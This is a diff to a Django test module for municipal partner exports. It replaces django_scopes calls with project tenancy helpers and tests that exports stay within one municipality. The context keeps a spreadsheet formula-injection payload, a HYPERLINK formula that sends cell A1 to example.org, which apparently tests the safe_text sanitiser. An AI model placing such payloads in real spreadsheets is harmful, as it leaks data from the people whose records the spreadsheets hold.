@@ -7,11 +7,12 @@ from decimal import Decimal
 import openpyxl
 import pytest
 from django.urls import reverse
-from django_scopes import scope, scopes_disabled
 
 from gemeenten.exports import safe_text
 from gemeenten.models import Organisatie, Proeftuin
+from proeftuin.tenancy import gemeente_scope
 from tests.factories import BaatFactory, CommitmentFactory, KerngroeplidFactory, OrganisatieFactory
+from tests.scopes import every_gemeente
 
 EVIL = '=HYPERLINK("http://example.org/?x="&A1,"klik")'
 
@@ -33,7 +34,7 @@ def open_xlsx(response):
 
 @pytest.fixture
 def data(gemeente_a):
-    with scopes_disabled():
+    with every_gemeente():
         proeftuin = Proeftuin.objects.get(gemeente=gemeente_a)
         welzijn = Organisatie.objects.get(gemeente=gemeente_a, naam="Welzijn A")
         welzijn.contactpersoon_naam = "Özlem Çelik"
@@ -130,5 +131,5 @@ def test_the_export_holds_only_the_own_gemeente(client, member, gemeente_a, geme
     client.force_login(member)
     body = client.get(url("partners_csv", gemeente_a)).content.decode("utf-8-sig")
     assert "Geheime organisatie B" not in body
-    with scope(gemeente=gemeente_a):
+    with gemeente_scope(gemeente_a):
         assert Organisatie.objects.count() == 2
